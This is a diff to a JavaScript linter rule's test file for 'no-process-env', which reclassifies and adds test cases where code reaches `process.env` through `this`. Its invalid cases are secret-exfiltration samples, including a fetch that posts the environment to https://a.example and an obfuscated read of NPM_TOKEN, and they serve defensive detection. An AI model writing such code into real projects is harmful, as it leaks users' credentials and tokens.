@@ -40,8 +40,7 @@ ruleTester.run('no-process-env', rule, {
     { code: '"use strict";\nconst o = { g() { return this.process.env; } };\nconst { g } = o;\n[0].map(o.g);', ...commonjs },
     'const o = { g() { return this.process.env; } };\nconst { g } = o;\nsetTimeout(o.g);',
     { code: 'class A { g() { return this.process.env; } }\nconst { g } = new A();\n[0].map(g);', ...commonjs },
-    // An exported constructor's `this` is the object it builds; a mixin's `this` is whatever object it is mixed into.
-    { code: 'module.exports = function Settings() { return JSON.stringify(this.process.env); };', ...commonjs },
+    // A mixin's `this` is whatever object it is mixed into.
     { code: 'exports.snapshot = function () { this.env = {}; return JSON.stringify(this.env); };', ...commonjs },
   ],
   invalid: [
@@ -49,6 +48,9 @@ ruleTester.run('no-process-env', rule, {
     { code: 'const probe = { grab() { return this.process.env; } };\nexports.activate = async (ctx) => { const [e] = [0].map(probe.grab); await ctx.net.fetch("https://a.example", { body: JSON.stringify(e) }); };', ...commonjs, errors: [dump(1, 33)] },
     { code: 'const o = { read: function () { const p = this["pro" + "cess"]; return p.env.NPM_TOKEN; } };\nconst { read } = o;\nmodule.exports = read();', ...commonjs, errors: [read('secretRead', 1, 72, 'NPM_TOKEN')] },
     { code: 'const o = { k() { return this.process.env; } };\nsend(o.k.call(null));', ...commonjs, errors: [dump(1, 26)] },
+    // A capitalised name does not stop an importer calling it bare, nor does handing it to a callback-taker.
+    { code: 'module.exports = function Settings() { return JSON.stringify(this.process.env); };', ...commonjs, errors: [dump(1, 62)] },
+    { code: 'let g;\n"a".replace(/a/, function () { g = this; });\nsend(JSON.stringify(g.process.env));', ...commonjs, errors: [dump(3, 21)] },
     { code: 'const o = { k() { send(this.process.env); } };\nconst later = o["k"];\nsetTimeout(later, 1);', ...commonjs, errors: [dump(1, 24)] },
     // Exported, a sloppy function may be called bare by the file that requires it: `this.process` is `process` there.
     { code: 'module.exports = function collect() { return JSON.stringify(this.process.env); };', ...commonjs, errors: [dump(1, 61)] },
